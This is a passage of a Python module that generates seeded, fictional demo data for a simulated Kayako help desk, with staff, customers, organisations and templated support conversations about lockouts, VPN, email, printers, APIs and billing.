"""Deterministic, seeded data of the simulated Kayako Classic help desk.

A fictional managed-service provider, *Harbourline IT*, runs its support desk on Kayako:
departments, statuses (global and per department), priorities, types, staff in groups,
customer users in organisations, and tickets spread over the last ~90 days with
conversations, internal notes, time tracking, custom fields and a few attachments.

Scaling: the ticket rows themselves are built eagerly (they are what list/filter/sort
work on), but everything *under* a ticket (posts, notes, time tracks, attachments,
custom-field values) is generated lazily from ``(seed, ticket id)`` when first read, kept
in a small LRU cache, and only kept for good once the ticket is written. Building 100 000
tickets therefore takes a few seconds and about 100 MB. The same seed (and ``now``) always
gives the same desk, byte for byte; writes mutate the in-memory state.

Six tickets carry hostile text (terminal markup, ANSI/OSC escapes, bidi overrides, CDATA
terminators), as real desks receive, so the demo exercises the UI's defences.

This module knows nothing about HTTP or XML: :mod:`adapters.kayako.simulator` renders it.
"""

from __future__ import annotations

import bisect
import calendar
import random
import re
import time
from array import array
from collections import OrderedDict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Generic, Protocol, TypeVar

HOUR = 3600
DAY = 86400
HISTORY_DAYS = 90

# Custom field types (SWIFT_CustomField::TYPE_*).
CF_TEXT = 1
CF_TEXTAREA = 2
CF_PASSWORD = 3
CF_CHECKBOX = 4
CF_RADIO = 5
CF_SELECT = 6
CF_MULTISELECT = 7
CF_CUSTOM = 8
CF_LINKEDSELECT = 9
CF_DATE = 10
CF_FILE = 11
# Custom field group types that belong to tickets (SWIFT_CustomFieldGroup::GROUP_*).
GROUP_USERTICKET = 3
GROUP_STAFFTICKET = 4
GROUP_STAFFUSERTICKET = 9
TICKET_GROUP_TYPES = (GROUP_STAFFTICKET, GROUP_STAFFUSERTICKET, GROUP_USERTICKET)

# Ticket creators / creation modes / creation types (SWIFT_Ticket constants).
CREATOR_STAFF = 1
CREATOR_USER = 2
CREATOR_CC = 3
MODE_SUPPORTCENTER = 1
MODE_STAFFCP = 2
MODE_EMAIL = 3
MODE_API = 4
MODE_SITEBADGE = 5
TYPE_DEFAULT = 1
TYPE_PHONE = 2


# --------------------------------------------------------------------------------------
# Records
# --------------------------------------------------------------------------------------


@dataclass(slots=True)
class Department:
    id: int
    title: str
    type: str  # public / private
    app: str  # tickets / livechat
    displayorder: int
    parentdepartmentid: int = 0
    uservisibilitycustom: int = 0
    usergroupids: tuple[int, ...] = ()


@dataclass(slots=True)
class TicketStatus:
    id: int
    title: str
    displayorder: int
    departmentid: int
    markasresolved: int
    statuscolor: str
    statusbgcolor: str
    type: str = "public"
    displayicon: str = ""
    displayinmainlist: int = 1
    displaycount: int = 1
    resetduetime: int = 0
    triggersurvey: int = 0
    staffvisibilitycustom: int = 0
    staffgroupids: tuple[int, ...] = ()


@dataclass(slots=True)
class TicketPriority:
    id: int
    title: str
    displayorder: int
    frcolorcode: str
    bgcolorcode: str
    type: str = "public"
    uservisibilitycustom: int = 0
    usergroupids: tuple[int, ...] = ()


@dataclass(slots=True)
class TicketType:
    id: int
    title: str
    displayorder: int
    departmentid: int
    displayicon: str
    type: str = "public"
    uservisibilitycustom: int = 0
    usergroupids: tuple[int, ...] = ()


@dataclass(slots=True)
class StaffGroup:
    id: int
    title: str
    isadmin: int


@dataclass(slots=True)
class Staff:
    id: int
    staffgroupid: int
    firstname: str
    lastname: str
    username: str
    email: str
    designation: str
    greeting: str = ""
    mobilenumber: str = ""
    isenabled: int = 1
    timezone: str = ""
    enabledst: int = 0
    signature: str = ""

    @property
    def fullname(self) -> str:
        return f"{self.firstname} {self.lastname}"


@dataclass(slots=True)
class UserGroup:
    id: int
    title: str
    grouptype: str  # registered / guest
    ismaster: int


@dataclass(slots=True)
class Organization:
    id: int
    name: str
    organizationtype: str  # restricted / shared
    address: str
    city: str
    state: str
    postalcode: str
    country: str
    phone: str
    fax: str
    website: str
    dateline: int
    lastupdate: int
    slaplanid: int = 0
    slaplanexpiry: int = 0
    domain: str = ""


@dataclass(slots=True)
class User:
    id: int
    usergroupid: int
    userrole: str  # user / manager
    userorganizationid: int
    salutation: str
    fullname: str
    emails: list[str]
    designation: str
    phone: str
    dateline: int
    lastvisit: int
    userexpiry: int = 0
    isenabled: int = 1
    timezone: str = ""
    enabledst: int = 0
    slaplanid: int = 0
    slaplanexpiry: int = 0


@dataclass(slots=True)
class UserNote:
    """A note on a user or an organisation; shown inside that user's tickets."""

    id: int
    linktype: str  # user / userorganization
    linkid: int
    staffid: int
    staffname: str
    notecolor: int
    dateline: int
    text: str


@dataclass(slots=True)
class TemplateGroup:
    id: int
    title: str


@dataclass(slots=True)
class Workflow:
    id: int
    title: str


@dataclass(slots=True)
class CustomFieldOption:
    id: int
    fieldid: int
    value: str
    displayorder: int
    isselected: int = 0
    parentid: int = 0


@dataclass(slots=True)
class CustomField:
    id: int
    groupid: int
    fieldtype: int
    name: str
    title: str
    displayorder: int
    defaultvalue: str = ""
    isrequired: int = 0
    usereditable: int = 1
    staffeditable: int = 1
    regexpvalidate: str = ""
    encryptindb: int = 0
    description: str = ""
    options: list[CustomFieldOption] = field(default_factory=list)


@dataclass(slots=True)
class CustomFieldGroup:
    id: int
    title: str
    grouptype: int
    displayorder: int
    departmentids: tuple[int, ...]
    fields: list[CustomField] = field(default_factory=list)


# A stored custom-field value, as the server keeps it: text/textarea/date -> str,
# select/radio -> option id, checkbox/multi-select -> option ids, linked select ->
# (parent option id, child option id).
CustomValue = str | int | list[int] | tuple[int, int]


@dataclass(slots=True)
class Ticket:
    id: int
    displayid: str
    departmentid: int
    statusid: int
    priorityid: int
    typeid: int
    userid: int
    ownerstaffid: int
    fullname: str
    email: str
    subject: str
    creationtime: int
    lastactivity: int
    laststaffreply: int
    lastuserreply: int
    lastreplier: str
    slaplanid: int
    duetime: int
    resolutiondue: int
    replies: int
    ipaddress: str
    creator: int
    creationmode: int
    creationtype: int
    isescalated: int
    escalationruleid: int
    templategroupid: int
    tags: str
    flagtype: int
    hasattachments: int
    hasnotes: int
    isresolved: int
    resolutiondateline: int
    watchers: tuple[int, ...]
    workflows: tuple[int, ...]
    # Generation recipe of the lazily built children (fixed at build time).
    topic: int
    n_posts: int
    first_by_staff: int
    n_notes: int
    n_timetracks: int
    n_attachments: int
    html_customer: int
    hostile: int  # index into HOSTILE, or -1
    variant: int = 0  # which subject of the topic; its opening and first reply match
    seeded: int = 1  # 0: created through the API, so it has no generated children


@dataclass(slots=True)
class Post:
    id: int
    ticketid: int
    dateline: int
    userid: int
    fullname: str
    email: str
    emailto: str
    ipaddress: str
    hasattachments: int
    creator: int
    isthirdparty: int
    ishtml: int
    isemailed: int
    staffid: int
    issurveycomment: int
    contents: str
    isprivate: int


@dataclass(slots=True)
class TicketNote:
    id: int
    ticketid: int
    notecolor: int
    staffid: int
    forstaffid: int
    staffname: str
    dateline: int
    text: str


@dataclass(slots=True)
class TimeTrack:
    id: int
    ticketid: int
    timespent: int
    timebillable: int
    billdate: int
    workdate: int
    workerstaffid: int
    workerstaffname: str
    creatorstaffid: int
    creatorstaffname: str
    notecolor: int
    text: str
    dateline: int


@dataclass(slots=True)
class Attachment:
    id: int
    ticketid: int
    postid: int
    filename: str
    filetype: str
    dateline: int
    data: bytes

    @property
    def filesize(self) -> int:
        return len(self.data)


# --------------------------------------------------------------------------------------
# Lookups (fixed: a real install configures these once)
# --------------------------------------------------------------------------------------

COMPANY = "Harbourline IT"

DEPARTMENTS = (
    Department(1, "General Support", "public", "tickets", 1, usergroupids=()),
    Department(2, "Technical Support", "public", "tickets", 2),
    Department(
        3, "Billing & Accounts", "public", "tickets", 3, uservisibilitycustom=1, usergroupids=(1, 3)
    ),
    Department(4, "Live Chat", "public", "livechat", 4),
    Department(5, "Network Operations", "private", "tickets", 5, parentdepartmentid=2),
)
TICKET_DEPARTMENTS = tuple(d.id for d in DEPARTMENTS if d.app == "tickets")

S_OPEN, S_ONHOLD, S_CLOSED, S_NEW, S_INPROGRESS, S_WAITING, S_RESOLVED = 1, 2, 3, 4, 5, 6, 7
S_AWAITPAY, S_ESCALATED, S_REFUNDED = 8, 9, 10
STATUSES = (
    TicketStatus(
        S_OPEN,
        "Open",
        2,
        0,
        0,
        "#4eafcb",
        "#4eafcb",
        displayicon="{$themepath}icon_ticketstatusopen.png",
    ),
    TicketStatus(
        S_ONHOLD,
        "On Hold",
        5,
        0,
        0,
        "#b3b3b3",
        "#b3b3b3",
        displayicon="{$themepath}icon_ticketstatusonhold.png",
    ),
    TicketStatus(
        S_CLOSED,
        "Closed",
        7,
        0,
        1,
        "#5f5f5f",
        "#5f5f5f",
        type="private",
        displayicon="{$themepath}icon_ticketstatusclosed.png",
        displayinmainlist=0,
        displaycount=0,
        triggersurvey=1,
    ),
    TicketStatus(S_NEW, "New", 1, 0, 0, "#f1a825", "#f1a825", resetduetime=1),
    TicketStatus(S_INPROGRESS, "In Progress", 3, 0, 0, "#2c7be5", "#2c7be5"),
    TicketStatus(S_WAITING, "Waiting for Customer", 4, 0, 0, "#8e6fbd", "#8e6fbd"),
    TicketStatus(
        S_RESOLVED, "Resolved", 6, 0, 1, "#5cb85c", "#5cb85c", displaycount=0, triggersurvey=1
    ),
    TicketStatus(
        S_AWAITPAY,
        "Awaiting Payment",
        8,
        3,
        0,
        "#d9534f",
        "#d9534f",
        staffvisibilitycustom=1,
        staffgroupids=(1, 4),
    ),
    TicketStatus(
        S_ESCALATED, "Escalated to Engineering", 9, 2, 0, "#c0392b", "#c0392b", type="private"
    ),
    TicketStatus(S_REFUNDED, "Refunded", 10, 3, 1, "#7f8c8d", "#7f8c8d", displaycount=0),
)

PRIORITIES = (
    TicketPriority(1, "Low", 1, "#ffffff", "#79b34f"),
    TicketPriority(2, "Medium", 2, "#ffffff", "#4eafcb"),
    TicketPriority(3, "High", 3, "#ffffff", "#f1a825"),
    TicketPriority(4, "Urgent", 4, "#ffffff", "#ef7626"),
    TicketPriority(5, "Emergency", 5, "#ffffff", "#d6000e", type="private"),
    TicketPriority(
        6, "Critical", 6, "#ffffff", "#8b0000", uservisibilitycustom=1, usergroupids=(3,)
    ),
)

T_CASE, T_BUG, T_FEEDBACK, T_INCIDENT, T_REQUEST, T_BILLING = 1, 2, 3, 4, 5, 6
TYPES = (
    TicketType(T_CASE, "Case", 1, 0, "{$themepath}icon_lifebuoy.png"),
    TicketType(T_BUG, "Bug", 2, 0, "{$themepath}icon_bug.png"),
    TicketType(T_FEEDBACK, "Feedback", 3, 0, "{$themepath}icon_lightbulb.png"),
    TicketType(T_INCIDENT, "Incident", 4, 0, "{$themepath}icon_exclamation.png"),
    TicketType(T_REQUEST, "Service Request", 5, 0, "{$themepath}icon_wrench.png"),
    TicketType(T_BILLING, "Billing Query", 6, 3, "{$themepath}icon_money.png", type="private"),
)

STAFF_GROUPS = (
    StaffGroup(1, "Administrator", 1),
    StaffGroup(2, "Tier 1 Support", 0),
    StaffGroup(3, "Tier 2 Engineering", 0),
    StaffGroup(4, "Billing Team", 0),
)

STAFF = (
    Staff(
        1,
        1,
        "Alex",
        "Morgan",
        "amorgan",
        "alex.morgan@harbourline.example",
        "Support Manager",
        mobilenumber="+44 7700 900101",
        timezone="Europe/London",
    ),
    Staff(
        2,
        2,
        "Priya",
        "Raman",
        "praman",
        "priya.raman@harbourline.example",
        "Support Engineer",
        timezone="Europe/London",
    ),
    Staff(
        3, 2, "Daniel", "Okafor", "dokafor", "daniel.okafor@harbourline.example", "Support Engineer"
    ),
    Staff(
        4,
        2,
        "Sofia",
        "Lindqvist",
        "slindqvist",
        "sofia.lindqvist@harbourline.example",
        "Support Engineer",
        timezone="Europe/Stockholm",
        enabledst=1,
    ),
    Staff(
        5,
        3,
        "Marcus",
        "Chen",
        "mchen",
        "marcus.chen@harbourline.example",
        "Senior Support Engineer",
    ),
    Staff(
        6,
        3,
        "Hannah",
        "Weber",
        "hweber",
        "hannah.weber@harbourline.example",
        "Systems Engineer",
        timezone="Europe/Berlin",
    ),
    Staff(
        7,
        3,
        "Tomás",
        "Álvarez",
        "talvarez",
        "tomas.alvarez@harbourline.example",
        "Systems Engineer",
    ),
    Staff(
        8, 4, "Aisha", "Bello", "abello", "aisha.bello@harbourline.example", "Billing Specialist"
    ),
    Staff(
        9, 4, "Oliver", "Grant", "ogrant", "oliver.grant@harbourline.example", "Accounts Receivable"
    ),
    Staff(10, 2, "Mei", "Tanaka", "mtanaka", "mei.tanaka@harbourline.example", "Support Engineer"),
    Staff(
        11,
        3,
        "Lukas",
        "Novak",
        "lnovak",
        "lukas.novak@harbourline.example",
        "Network Engineer",
        timezone="Europe/Prague",
    ),
    Staff(
        12,
        2,
        "Grace",
        "O'Brien",
        "gobrien",
        "grace.obrien@harbourline.example",
        "Service Desk Analyst",
        greeting="Hi there,",
    ),
    Staff(
        13,
        1,
        "Rahul",
        "Mehta",
        "rmehta",
        "rahul.mehta@harbourline.example",
        "Head of Customer Operations",
    ),
    Staff(
        14,
        2,
        "Zoë",
        "Dubois",
        "zdubois",
        "zoe.dubois@harbourline.example",
        "Service Desk Analyst",
        timezone="Europe/Paris",
    ),
    Staff(
        15,
        3,
        "Samuel",
        "Adeyemi",
        "sadeyemi",
        "samuel.adeyemi@harbourline.example",
        "Systems Engineer",
        isenabled=0,
    ),
)
# Who works which department's queue (owners and repliers are drawn from these).
DEPARTMENT_STAFF: dict[int, tuple[int, ...]] = {
    1: (2, 3, 4, 10, 12, 14, 1),
    2: (5, 6, 7, 2, 10),
    3: (8, 9, 13),
    5: (11, 6, 5),
}

USER_GROUPS = (
    UserGroup(1, "Registered", "registered", 1),
    UserGroup(2, "Guest", "guest", 1),
    UserGroup(3, "Managed Service Clients", "registered", 0),
    UserGroup(4, "Partners", "registered", 0),
)

TEMPLATE_GROUPS = (TemplateGroup(1, "Default"), TemplateGroup(2, "Managed Clients"))

WORKFLOWS = (
    Workflow(1, "Close ticket"),
    Workflow(2, "Escalate to Tier 2"),
    Workflow(3, "Send to Billing"),
    Workflow(4, "Request customer feedback"),
)

# Hours to first reply / to resolution by priority id (an SLA plan's targets).
REPLY_HOURS = {1: 48, 2: 24, 3: 8, 4: 4, 5: 2, 6: 1}
RESOLVE_HOURS = {1: 240, 2: 120, 3: 48, 4: 24, 5: 12, 6: 8}

# --------------------------------------------------------------------------------------
# Vocabulary for generated people and text
# --------------------------------------------------------------------------------------

FIRST_NAMES = (
    "James",
    "Olivia",
    "Noah",
    "Amelia",
    "Liam",
    "Isla",
    "Ethan",
    "Ava",
    "Lucas",
    "Mia",
    "Mason",
    "Sophie",
    "Logan",
    "Chloe",
    "Arjun",
    "Ananya",
    "Wei",
    "Yuki",
    "Mateo",
    "Lucía",
    "Kwame",
    "Amara",
    "Fatima",
    "Omar",
    "Nikolai",
    "Ingrid",
    "Pieter",
    "Saskia",
    "Connor",
    "Niamh",
    "Dylan",
    "Ffion",
    "Jonas",
    "Lea",
    "Marco",
    "Giulia",
    "Tariq",
    "Leila",
    "Hugo",
    "Camille",
    "Ben",
    "Rosa",
    "Kofi",
    "Adaeze",
    "Ravi",
    "Deepa",
    "Jack",
    "Emily",
    "Sam",
    "Erin",
)
LAST_NAMES = (
    "Smith",
    "Jones",
    "Taylor",
    "Brown",
    "Williams",
    "Wilson",
    "Evans",
    "Thomas",
    "Patel",
    "Khan",
    "Nguyen",
    "Kowalski",
    "Müller",
    "Schmidt",
    "Rossi",
    "García",
    "Fernández",
    "Nakamura",
    "Kim",
    "Osei",
    "Mensah",
    "Haddad",
    "Johansson",
    "de Vries",
    "Murphy",
    "O'Connor",
    "Davies",
    "Hughes",
    "Campbell",
    "Stewart",
    "Ahmed",
    "Singh",
    "Lopez",
    "Dubois",
    "Martin",
    "Novak",
    "Horvat",
    "Ivanova",
    "Andersen",
    "Byrne",
)
ORG_NAMES = (
    "Northwind Traders",
    "Contoso Pharmaceuticals",
    "Fabrikam Logistics",
    "Tailspin Toys",
    "Wide World Importers",
    "Adventure Works Cycles",
    "Coho Winery",
    "Alpine Ski House",
    "Lamna Healthcare",
    "Margie's Travel",
    "Trey Research",
    "Blue Yonder Airlines",
    "Woodgrove Bank",
    "Litware Publishing",
    "Proseware Labs",
    "Fourth Coffee",
    "Graphic Design Institute",
    "Humongous Insurance",
    "Lucerne Publishing",
    "Southridge Video",
    "Wingtip Solicitors",
    "City Power & Light",
    "Relecloud",
    "VanArsdel Foods",
    "Bellows College",
    "Datum Surveying",
    "Consolidated Messenger",
    "School of Fine Art",
    "Nod Publishers",
    "Munson's Pickles and Preserves",
)
ORG_SUFFIXES = ("Ltd", "Group", "Partners", "Holdings", "Studio", "Clinic", "LLP", "Co-op")
CITIES = (
    ("Bristol", "England", "BS1 4DJ", "United Kingdom"),
    ("Leeds", "England", "LS1 5AB", "United Kingdom"),
    ("Manchester", "England", "M1 2WD", "United Kingdom"),
    ("Glasgow", "Scotland", "G2 1DY", "United Kingdom"),
    ("Cardiff", "Wales", "CF10 1EP", "United Kingdom"),
    ("Dublin", "Leinster", "D02 X285", "Ireland"),
    ("Amsterdam", "Noord-Holland", "1012 AB", "Netherlands"),
    ("Berlin", "Berlin", "10115", "Germany"),
    ("Lyon", "Auvergne-Rhône-Alpes", "69002", "France"),
    ("Toronto", "Ontario", "M5H 2N2", "Canada"),
)
STREETS = (
    "Harbour Road",
    "Mill Lane",
    "King Street",
    "Queen's Parade",
    "Station Approach",
    "Canal Wharf",
    "Market Square",
    "Riverside Way",
    "Bridge Street",
    "Park Row",
)
PERSONAL_DOMAINS = ("gmail.com", "outlook.com", "proton.me", "icloud.com", "yahoo.co.uk")
DESIGNATIONS = (
    "Office Manager",
    "IT Coordinator",
    "Finance Director",
    "Operations Lead",
    "Practice Manager",
    "Developer",
    "Receptionist",
    "Managing Director",
    "Account Manager",
    "HR Advisor",
    "",
    "",
    "",
)
TIMEZONES = ("", "", "Europe/London", "Europe/Dublin", "Europe/Amsterdam", "America/Toronto")
SALUTATIONS = ("", "", "", "Mr.", "Ms.", "Mrs.", "Dr.")

VERSIONS = ("5.2.1", "5.3.0", "5.3.2", "5.4.0", "6.0.0-rc2")
OSES = (
    "Windows 11 23H2",
    "Windows 10 22H2",
    "macOS Sonoma 14.4",
    "macOS Ventura 13.6",
    "Ubuntu 22.04 LTS",
    "iOS 17.4",
    "Android 14",
)
BROWSERS = ("Chrome 124", "Firefox 125", "Edge 123", "Safari 17.4")
TAGS_POOL = (
    "vip",
    "follow-up",
    "known-issue",
    "needs-info",
    "onsite",
    "remote-session",
    "windows",
    "mac",
    "mobile",
    "q2-migration",
)


@dataclass(frozen=True, slots=True)
class Topic:
    """One kind of support request, with the words both sides use about it."""

    key: str
    departments: tuple[int, ...]
    types: tuple[int, ...]
    weight: int
    tags: tuple[str, ...]
    subjects: tuple[str, ...]
    openings: tuple[str, ...]
    followups: tuple[str, ...]
    replies: tuple[str, ...]
    privates: tuple[str, ...]
    resolutions: tuple[str, ...]
    notes: tuple[str, ...]
    work: tuple[str, ...]


TOPICS: tuple[Topic, ...] = (
    Topic(
        "password",
        (1,),
        (T_REQUEST, T_CASE),
        9,
        ("password-reset", "account"),
        (
            "Locked out of my account",
            "Password reset email never arrives",
            "Account locked after too many attempts",
        ),
        (
            "Hi,\n\nI've been locked out of my account since this morning. I reset my password "
            'yesterday and now it says "Your account has been temporarily locked". I have a '
            "client call at 2pm and need access to the shared drive before then.\n\nThanks,\n"
            "{first}",
            "Hello,\n\nThe password reset link never arrives. I've checked spam and junk. "
            "My username is {email}.\n\nCould you reset it manually please?\n\n{first}",
        ),
        (
            "Still locked out I'm afraid - the new temporary password gives the same error.",
            "That worked, thank you! One more thing: do I need to change it again on my phone?",
        ),
        (
            "Hi {first},\n\nI've unlocked the account and issued a temporary password by SMS to "
            "the number we hold on file. You'll be asked to choose a new one at first sign-in."
            "\n\nIf the lock comes back straight away, a device (often a phone) is still trying "
            "the old password - please update it there too.",
            "Hi {first},\n\nThanks for the details. The lock is caused by repeated failed "
            "sign-ins from an old device. Could you confirm whether you still use the iPad "
            "registered to your account?",
        ),
        (
            "Lockout source in the AD logs is {host} - old iPad with cached credentials.",
            "Checked identity: caller answered security questions correctly.",
        ),
        (
            "Hi {first},\n\nGlad you're back in. Yes - update the password in the Mail and "
            "Teams apps on your phone, otherwise the account will lock again. I'll close this "
            "ticket now; just reply if anything else comes up.",
        ),
        ("Customer verified by phone call-back.", "Repeat lockouts - consider MFA enrolment."),
        ("Unlocked account and reset password in AD", "Traced lockout source device"),
    ),
    Topic(
        "sso",
        (2,),
        (T_INCIDENT, T_BUG),
        6,
        ("sso", "saml"),
        (
            "SSO login fails with SAML error",
            "Single sign-on broken after certificate change",
            '"Invalid SAML response" when signing in to the portal',
        ),
        (
            "Hi support,\n\nSince about 09:40 none of our staff can sign in to the Harbourline "
            "Portal through SSO. Azure AD shows the sign-in as successful but the portal "
            "returns:\n\n  SAML2 error: InvalidSignature (audience mismatch)\n\nWe rotated our "
            "signing certificate last night. Version {version}.\n\nRegards,\n{first}",
        ),
        (
            "We uploaded the new certificate metadata but it still fails for about half of the "
            "users.",
            "Confirmed working for everyone now.",
        ),
        (
            "Hi {first},\n\nThanks for the detail. The portal still trusts the previous "
            "certificate thumbprint. Please upload the new federation metadata XML under "
            "Settings > Security > Single sign-on, or send it to us and we'll apply it.",
            "Hi {first},\n\nThe remaining failures come from cached metadata on our secondary "
            "node. I've cleared the cache and restarted the identity service; please ask one "
            "of the affected users to try again.",
        ),
        (
            "Second node had stale IdP metadata - flushed cache on idp-02.",
            "Looks like a regression in {version}: metadata refresh job not scheduled.",
        ),
        (
            "Hi {first},\n\nGreat to hear. Root cause: the new certificate was applied to the "
            "primary node only. We've raised an internal bug so metadata refreshes on both "
            "nodes. Closing this one.",
        ),
        ("Affects SAML customers only; OIDC fine.", "Bug raised: ENG-2291"),
        ("Reviewed SAML trace and IdP metadata", "Cleared metadata cache on idp-02"),
    ),
    Topic(
        "vpn",
        (5, 2),
        (T_INCIDENT,),
        8,
        ("vpn", "network"),
        (
            "VPN disconnects every 10 minutes",
            "Nobody at the office can connect to the VPN",
            "VPN error 809 after Windows update",
        ),
        (
            "Hi,\n\nSince the update on Tuesday my VPN drops roughly every ten minutes and I "
            "have to reconnect. The client shows:\n\n  The network connection between your "
            "computer and the VPN server was interrupted (error 809)\n\nI'm on {os} at home, "
            "fibre broadband.\n\nThanks,\n{first}",
            "Hello,\n\nNobody in our {org} office can connect to the VPN this morning. The "
            'client just spins on "Connecting..." then times out. Internet is fine.\n\n'
            "{first}",
        ),
        (
            "It dropped again at 14:12 and 14:25. Log attached.",
            "Connected all afternoon without a single drop - looks fixed!",
        ),
        (
            "Hi {first},\n\nThanks - error 809 usually means UDP 500/4500 is being blocked or "
            'NAT-T is failing. Could you try the SSL profile ("Harbourline-SSL") in the client '
            "and let us know if it stays up?",
            "Hi {first},\n\nWe've pushed an updated VPN profile that lowers the MTU to 1380 and "
            "enables dead-peer detection. Please disconnect, quit the client and reconnect so "
            "it picks up the new profile.",
        ),
        (
            "IKE SA rekey failing on vpn-gw-01 - DPD timeout 30s too aggressive.",
            "ISP router doing SIP ALG on the customer side, not our issue but workaround applied.",
        ),
        (
            "Hi {first},\n\nExcellent. For the record: the gateway was renegotiating every 10 "
            "minutes and your router dropped the rekey. The new profile fixes that. I'll close "
            "the ticket; reply here if it comes back.",
        ),
        ("Gateway logs show rekey storms at 10-minute intervals.",),
        ("Analysed gateway logs and pushed VPN profile", "Remote session to test MTU"),
    ),
    Topic(
        "email",
        (2, 1),
        (T_INCIDENT, T_CASE),
        8,
        ("email", "outlook"),
        (
            "Outlook not syncing since yesterday",
            "Emails stuck in outbox",
            "Outlook shows Disconnected",
        ),
        (
            "Hi,\n\nMy Outlook stopped syncing yesterday afternoon. New mail shows on my phone "
            'but not on the laptop, and the status bar says "Disconnected". I\'ve restarted '
            "twice.\n\n{first}",
            "Hello,\n\nEmails are sitting in my Outbox and won't send. Some have attachments, "
            "one about 18 MB. Outlook version is the one you installed last month.\n\n"
            "Kind regards,\n{first}",
        ),
        ("Still disconnected after trying that.", "All synced now, thanks very much."),
        (
            'Hi {first},\n\nCould you close Outlook and run "outlook.exe /resetnavpane" from '
            "the Start menu, then reopen it? If it still shows Disconnected, we'll rebuild your "
            "profile remotely.",
            "Hi {first},\n\nThe 18 MB message is over the 15 MB send limit and blocks the rest "
            "of the queue. Please move it to Drafts and share the file via OneDrive instead; the "
            "others will then send.",
        ),
        (
            "OST file 49.8 GB - near the 50 GB limit, needs archiving.",
            "Mailbox on the old database, migration batch 7 pending.",
        ),
        (
            "Hi {first},\n\nGreat, the profile rebuild did the trick. Your old cache file was "
            "almost full; we've enabled online archiving so it won't happen again soon.",
        ),
        ("Recreated Outlook profile remotely.",),
        ("Rebuilt Outlook profile", "Enabled online archive"),
    ),
    Topic(
        "printer",
        (1,),
        (T_INCIDENT,),
        6,
        ("printer", "onsite"),
        (
            "Printer on 2nd floor offline",
            "Print jobs stuck in the queue",
            "Ricoh on the 2nd floor shows offline",
        ),
        (
            "Hi,\n\nThe big printer on the 2nd floor shows as offline for everyone. The "
            "printer's own screen looks normal and it can photocopy.\n\n{first}",
            "Hello,\n\nNothing prints from my laptop since the weekend - jobs sit in the queue "
            'with status "Error - Printing". Others in the team can print.\n\nThanks,\n{first}',
        ),
        ("Restarted it as you said - still offline.", "Printing again, cheers!"),
        (
            "Hi {first},\n\nCould you power-cycle the printer (off at the switch for 30 "
            "seconds)? It may have picked up a new IP address from DHCP over the weekend.",
            "Hi {first},\n\nI've cleared the stuck spooler on your laptop and reinstalled the "
            "PCL6 driver. Please try printing a test page.",
        ),
        ("Printer grabbed a DHCP address; reserved 10.20.2.45 for its MAC.",),
        (
            "Hi {first},\n\nSorted - the printer had picked up a new address. We've reserved "
            "its address so this won't recur. Closing the ticket.",
        ),
        ("Added DHCP reservation for printer.",),
        ("Cleared print spooler remotely", "Configured DHCP reservation"),
    ),
    Topic(
        "performance",
        (2,),
        (T_BUG, T_INCIDENT),
        5,
        ("performance", "portal"),
        (
            "Portal dashboard very slow to load",
            "Dashboard takes 40 seconds to load",
            "Portal dashboard sluggish since the update",
        ),
        (
            "Hi,\n\nThe dashboard in the portal takes 40+ seconds to load since {date}. Other "
            "pages are OK. Browser is {browser}.\n\nRegards,\n{first}",
        ),
        ("Still slow this morning - about 35 seconds.", "Much better now, under 2 seconds."),
        (
            "Hi {first},\n\nThanks for reporting this. Could you open the browser developer "
            "tools (F12), go to Network, reload the dashboard and send us a screenshot of the "
            "slowest requests?",
            'Hi {first},\n\nWe found a slow query behind the "Open items by site" widget for '
            "accounts with many sites. A fix is being deployed this evening.",
        ),
        ("Query plan shows full scan on site_assets; missing index after {version} migration.",),
        (
            "Hi {first},\n\nThe index fix went out last night and the dashboard now loads in "
            "under two seconds for your account. Thanks for your patience.",
        ),
        ("Reproduced with customer's account in staging.",),
        ("Profiled dashboard queries", "Deployed index fix"),
    ),
    Topic(
        "export",
        (2,),
        (T_BUG,),
        5,
        ("regression", "reports"),
        (
            "CSV export broken after update to {version}",
            "Export produces an empty file",
            "Monthly asset report exports only the header row",
        ),
        (
            "Hello,\n\nSince the update to {version}, exporting the monthly asset report to CSV "
            "gives a file with only the header row. It worked in the previous version.\n\n"
            "Steps:\n- Reports > Assets\n- Filter: this month\n- Export > CSV\n\n{first}",
        ),
        ("Same with the XLSX export by the way.", "Confirmed fixed in the patch, thanks."),
        (
            "Hi {first},\n\nThanks for the clear steps - I can reproduce it. It only happens "
            "when a date filter is applied. Engineering are on it; a workaround is to export "
            "without the filter and filter in Excel.",
        ),
        ("Known issue in {version}: timezone offset breaks the export date range.",),
        (
            "Hi {first},\n\nPatch 5.3.3 fixes the export date range. It was rolled out to your "
            "tenant this morning. Closing this ticket.",
        ),
        ("Linked to known issue KI-118.",),
        ("Reproduced export bug",),
    ),
    Topic(
        "api",
        (2,),
        (T_BUG, T_INCIDENT, T_CASE),
        5,
        ("api", "integrations"),
        (
            "API returns 500 on /v2/assets",
            "Webhook not firing for new tickets",
            "HTTP 500 from the assets API on page 3",
        ),
        (
            "Hi,\n\nOur integration calls GET /v2/assets?page=3 and gets HTTP 500 with body:\n\n"
            '  {{"error":"internal","request_id":"req_8f2c41"}}\n\nPages 1 and 2 work. '
            "Can you check the request id?\n\nThanks,\n{first}",
            "Hello,\n\nThe webhook we registered for ticket.created stopped firing on {date}. "
            "The endpoint is up and returns 200 to manual tests.\n\n{first}",
        ),
        ("Any update? Our nightly sync is failing.", "All good now - sync ran fine overnight."),
        (
            "Hi {first},\n\nRequest req_8f2c41 failed on an asset with a malformed serial "
            "number. We're fixing the serialiser; in the meantime page size 50 skips it.",
            "Hi {first},\n\nThe webhook was auto-disabled after 20 consecutive timeouts on "
            "{date}. I've re-enabled it; please make sure the endpoint answers within 10 "
            "seconds.",
        ),
        (
            "Serial contains a NUL byte - import from their old RMM.",
            "Webhook disabled by circuit breaker; delivery log shows 504s from their side.",
        ),
        (
            "Hi {first},\n\nThe fix is live and page 3 now returns normally. Closing, but do "
            "reopen if the sync shows anything odd.",
        ),
        ("Check request logs with request id.",),
        ("Investigated API logs", "Re-enabled webhook and replayed deliveries"),
    ),
    Topic(
        "invoice",
        (3,),
        (T_BILLING, T_CASE),
        7,
        ("billing", "invoice"),
        (
            "Charged twice for {month} invoice",
            "Invoice {invoice} amount looks wrong",
            "Duplicate payment taken for {invoice}",
        ),
        (
            "Hello,\n\nWe have been charged twice for invoice {invoice} - two debits of "
            "£{amount} on the same day. Can you refund one please?\n\nKind regards,\n{first}\n"
            "Finance, {org}",
            "Hi,\n\nInvoice {invoice} shows 25 seats but we reduced to 18 last month. Please "
            "send a corrected invoice.\n\nThanks,\n{first}",
        ),
        ("Thanks - when should we expect the refund?", "Received, thank you."),
        (
